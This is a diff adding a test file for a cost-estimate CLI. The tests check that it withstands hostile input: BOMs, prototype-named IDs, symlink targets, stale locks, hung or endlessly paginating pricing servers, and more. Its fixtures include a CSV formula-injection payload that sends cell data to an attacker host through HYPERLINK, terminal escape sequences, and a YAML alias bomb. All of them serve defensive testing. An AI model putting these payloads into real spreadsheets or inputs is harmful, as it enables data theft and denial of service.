@@ -1,0 +1,307 @@
+/**
+ * Issue 15, the cases that end in a correct figure rather than exit 2, and the pieces the CLI
+ * table cannot reach: the refresh client against servers that never answer or never stop
+ * paginating, two refreshes racing for one catalog, the CSV formula guard on every column, and
+ * the file module's own contract.
+ */
+import { createServer, type Server } from 'node:http';
+import { type AddressInfo } from 'node:net';
+import {
+  lstatSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { hostname, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { main } from '../../cost/cli/main';
+import type { CliIo } from '../../cost/cli/io';
+import { terminalSafe } from '../../cost/cli/terminal';
+import { CostInputError } from '../../cost/errors';
+import { readInputFile, withLockFile, writeFileAtomic } from '../../cost/fs';
+import { createPriceListClient } from '../../cost/refresh/pricing-client';
+import { parseYaml } from '../../cost/yaml';
+
+const dir = mkdtempSync(join(tmpdir(), 'hostile-files-'));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+const VM = { Resources: { Vm: { Type: 'AWS::EC2::Instance', Properties: { InstanceType: 'm5.large' } } } };
+/** us-east-1 m5.large on-demand in the bundled catalog: 0.096 $/h × 730 h. */
+const VM_MONTHLY = 70.08;
+
+async function cli(argv: readonly string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  let stdout = '';
+  let stderr = '';
+  const io: CliIo = { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), cwd: dir, env: {} };
+  const code = await main(argv, io);
+  return { code, stdout, stderr };
+}
+
+describe('input that deserves a correct figure, not an error', () => {
+  beforeAll(() => {
+    writeFileSync(join(dir, 'vm.json'), JSON.stringify(VM));
+    writeFileSync(join(dir, 'bom.json'), `\ufeff${JSON.stringify(VM)}`);
+    writeFileSync(
+      join(dir, 'bom.yaml'),
+      `\ufeffResources:\n  Vm:\n    Type: AWS::EC2::Instance\n    Properties:\n      InstanceType: m5.large\n`,
+    );
+    writeFileSync(join(dir, 'usage-bom.yaml'), '\ufeffvm:\n  Vm:\n    monthlyInstanceHours: 10\n');
+    writeFileSync(
+      join(dir, 'to-string.json'),
+      JSON.stringify({ Resources: { toString: VM.Resources.Vm, constructor: VM.Resources.Vm } }),
+    );
+    writeFileSync(
+      join(dir, 'usage-to-string.yaml'),
+      'to-string:\n  toString:\n    monthlyInstanceHours: 10\n',
+    );
+    writeFileSync(
+      join(dir, 'evil-type.json'),
+      JSON.stringify({
+        Resources: {
+          Vm: VM.Resources.Vm,
+          Evil: {
+            Type: '=HYPERLINK("http://attacker.example/?"&A1,"x")\u001b]0;pwned\u0007',
+            Properties: {},
+          },
+        },
+      }),
+    );
+  });
+
+  test.each([
+    ['a JSON template with a UTF-8 BOM', 'bom.json'],
+    ['a YAML template with a UTF-8 BOM', 'bom.yaml'],
+  ])('%s is read (exit 0, the m5.large month)', async (_what, file) => {
+    const r = await cli(['estimate', file, '--region', 'us-east-1', '--format', 'json']);
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout).totals.expected).toBeCloseTo(VM_MONTHLY, 6);
+  });
+
+  test('a usage file with a UTF-8 BOM is read', async () => {
+    const r = await cli([
+      'estimate',
+      'vm.json',
+      '--region',
+      'us-east-1',
+      '--usage',
+      'usage-bom.yaml',
+      '--format',
+      'json',
+    ]);
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout).stacks[0].assumptions).toEqual([
+      expect.objectContaining({
+        logicalId: 'Vm',
+        key: 'monthlyInstanceHours',
+        value: 10,
+        source: 'usage-file',
+      }),
+    ]);
+  });
+
+  test('logical ids toString and constructor with a usage file are plain names (was exit 3)', async () => {
+    const r = await cli([
+      'estimate',
+      'to-string.json',
+      '--region',
+      'us-east-1',
+      '--usage',
+      'usage-to-string.yaml',
+      '--format',
+      'json',
+    ]);
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    const report = JSON.parse(r.stdout);
+    expect(report.totals.expected).toBeCloseTo(2 * VM_MONTHLY, 6);
+    expect(report.stacks[0].assumptions).toEqual([
+      expect.objectContaining({ logicalId: 'toString', key: 'monthlyInstanceHours', value: 10 }),
+    ]);
+  });
+
+  test('a resource type that is a formula lands in every CSV cell with a leading apostrophe', async () => {
+    const r = await cli([
+      'estimate',
+      'evil-type.json',
+      '--region',
+      'us-east-1',
+      '--format',
+      'csv',
+      '--out',
+      'evil.csv',
+    ]);
+    expect(r.code).toBe(0);
+    const rows = parseCsv(readFileSync(join(dir, 'evil.csv'), 'utf8'), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    const evil = rows.filter((row) => row.x_LogicalId === 'Evil');
+    expect(evil.length).toBeGreaterThan(0);
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(evil[0].ResourceType.startsWith(`'=HYPERLINK(`)).toBe(true);
+  });
+
+  test('control characters from the template reach the terminal escaped; JSON on stdout stays the same data', async () => {
+    const table = await cli(['estimate', 'evil-type.json', '--region', 'us-east-1']);
+    expect(table.code).toBe(0);
+    expect(table.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
+    expect(table.stdout).toContain('\\u001b]0;pwned\\u0007');
+    const json = await cli(['estimate', 'evil-type.json', '--region', 'us-east-1', '--format', 'json']);
+    expect(json.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
+    const report = JSON.parse(json.stdout);
+    expect(report.stacks[0].unpriced[0].resourceType).toContain('\u001b]0;pwned\u0007');
+  });
+
+  test('terminalSafe keeps text, tabs and newlines; escapes C0, DEL, C1 and bidi controls', () => {
+    expect(terminalSafe('a\tb\nc ü €')).toBe('a\tb\nc ü €');
+    expect(terminalSafe('\r\u001b\u007f\u009b\u202e\u2066')).toBe(
+      '\\u000d\\u001b\\u007f\\u009b\\u202e\\u2066',
+    );
+  });
+});
+
+describe('the file module', () => {
+  test('readInputFile refuses a directory and a missing path with one phrase each', () => {
+    expect(() => readInputFile(dir)).toThrow(/is a directory, expected a regular file/);
+    expect(() => readInputFile(join(dir, 'nope'), { what: 'usage file' })).toThrow(
+      /^usage file .*nope: no such file or directory$/,
+    );
+  });
+
+  test('readInputFile stops at the cap even when the file is larger than it said', () => {
+    const path = join(dir, 'ten-bytes.txt');
+    writeFileSync(path, '0123456789');
+    expect(() => readInputFile(path, { maxBytes: 9 })).toThrow(/above the 9-byte limit/);
+    expect(readInputFile(path, { maxBytes: 10 })).toBe('0123456789');
+  });
+
+  test('writeFileAtomic replaces a regular file, leaves no temporary file, and refuses a symlink target', () => {
+    const target = join(dir, 'out.txt');
+    const victim = join(dir, 'victim.txt');
+    writeFileSync(target, 'old');
+    writeFileSync(victim, 'keep');
+    writeFileAtomic(target, 'new');
+    expect(readFileSync(target, 'utf8')).toBe('new');
+    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
+    const link = join(dir, 'link.txt');
+    symlinkSync(victim, link);
+    expect(() => writeFileAtomic(link, 'pwned')).toThrow(/symbolic link/);
+    expect(readFileSync(victim, 'utf8')).toBe('keep');
+    expect(lstatSync(link).isSymbolicLink()).toBe(true);
+  });
+
+  test('withLockFile: a second holder is told the first is running; the lock is gone afterwards', async () => {
+    const path = join(dir, 'catalog.json');
+    let inner: unknown;
+    await withLockFile(path, 'prices refresh', async () => {
+      inner = await withLockFile(path, 'prices refresh', async () => 'second').catch((e: unknown) => e);
+    });
+    expect(inner).toBeInstanceOf(CostInputError);
+    expect((inner as Error).message).toMatch(
+      new RegExp(
+        `^prices refresh is already running \\(lock .*catalog\\.json\\.lock held by process ${process.pid} `,
+      ),
+    );
+    expect(readdirSync(dir).some((n) => n.endsWith('.lock'))).toBe(false);
+  });
+
+  test('withLockFile takes over a lock left by a process that is gone', async () => {
+    const path = join(dir, 'stale.json');
+    // pid 2^22 + 1 is above Linux's pid_max: no process has it
+    writeFileSync(`${path}.lock`, JSON.stringify({ pid: 4194305, host: hostname(), since: 'x' }));
+    expect(await withLockFile(path, 'prices refresh', async () => 'ran')).toBe('ran');
+  });
+});
+
+describe('YAML limits', () => {
+  test('an alias bomb is refused in milliseconds, before any value is built', () => {
+    const lines = ['a0: &a0 ["xxxxxxxx", "xxxxxxxx", "xxxxxxxx", "xxxxxxxx"]'];
+    for (let i = 1; i < 40; i++) lines.push(`a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}, *a${i - 1}]`);
+    const t0 = performance.now();
+    expect(() => parseYaml(lines.join('\n'), {})).toThrow(/alias bomb/);
+    expect(performance.now() - t0).toBeLessThan(2000);
+  });
+
+  test('ordinary anchors and aliases (repeated tags) still parse', () => {
+    const doc = parseYaml('tags: &t [{Key: a, Value: b}]\nx: *t\ny: *t\n', {}) as Record<string, unknown>;
+    expect(doc.y).toEqual([{ Key: 'a', Value: 'b' }]);
+  });
+
+  test('more than 10,000 aliases are refused', () => {
+    const text = `a: &a 1\nl: [${Array(10_001).fill('*a').join(', ')}]\n`;
+    expect(() => parseYaml(text, {})).toThrow(/more than 10000 YAML aliases/);
+  });
+});
+
+describe('the Price List client gives up on servers that hang or paginate forever', () => {
+  let server: Server;
+  let endpoint: string;
+  let mode: 'silent' | 'endless' | 'loop' = 'silent';
+  let requests = 0;
+  beforeAll(async () => {
+    server = createServer((req, res) => {
+      requests++;
+      req.resume();
+      req.on('end', () => {
+        if (mode === 'silent') return; // accept, never answer
+        const token = mode === 'loop' ? 'same' : `t${requests}`;
+        res.writeHead(200, { 'content-type': 'application/x-amz-json-1.1' });
+        res.end(JSON.stringify({ FormatVersion: 'aws_v1', PriceList: [], NextToken: token }));
+      });
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(async () => {
+    server.closeAllConnections();
+    await new Promise<void>((r) => server.close(() => r()));
+  });
+
+  const client = (extra: { maxPages?: number } = {}) =>
+    createPriceListClient({
+      endpoint,
+      credentials: { accessKeyId: 'AKIDTESTTESTTESTTEST', secretAccessKey: 'test-secret-not-real' },
+      retry: { maxAttempts: 2, baseDelayMs: 1, maxDelayMs: 1 },
+      requestTimeoutMs: 300,
+      sleep: async () => {},
+      ...extra,
+    });
+  const query = { serviceCode: 'AmazonEC2', filters: [{ field: 'regionCode', value: 'us-east-1' }] };
+
+  test('a server that never answers: a TimeoutError after the deadline and one retry', async () => {
+    mode = 'silent';
+    requests = 0;
+    const c = await client();
+    const t0 = performance.now();
+    await expect(c.getAllProducts(query)).rejects.toMatchObject({ name: 'TimeoutError' });
+    c.destroy();
+    expect(performance.now() - t0).toBeLessThan(10_000);
+    expect(requests).toBe(2);
+  }, 20_000);
+
+  test('a NextToken that never ends stops at the page cap', async () => {
+    mode = 'endless';
+    requests = 0;
+    const c = await client({ maxPages: 25 });
+    await expect(c.getAllProducts(query)).rejects.toThrow(/still paginating after 25 pages/);
+    c.destroy();
+    expect(requests).toBe(25);
+  });
+
+  test('a NextToken that repeats stops on the second page', async () => {
+    mode = 'loop';
+    requests = 0;
+    const c = await client();
+    await expect(c.getAllProducts(query)).rejects.toThrow(/same NextToken twice/);
+    c.destroy();
+    expect(requests).toBe(2);
+  });
+});
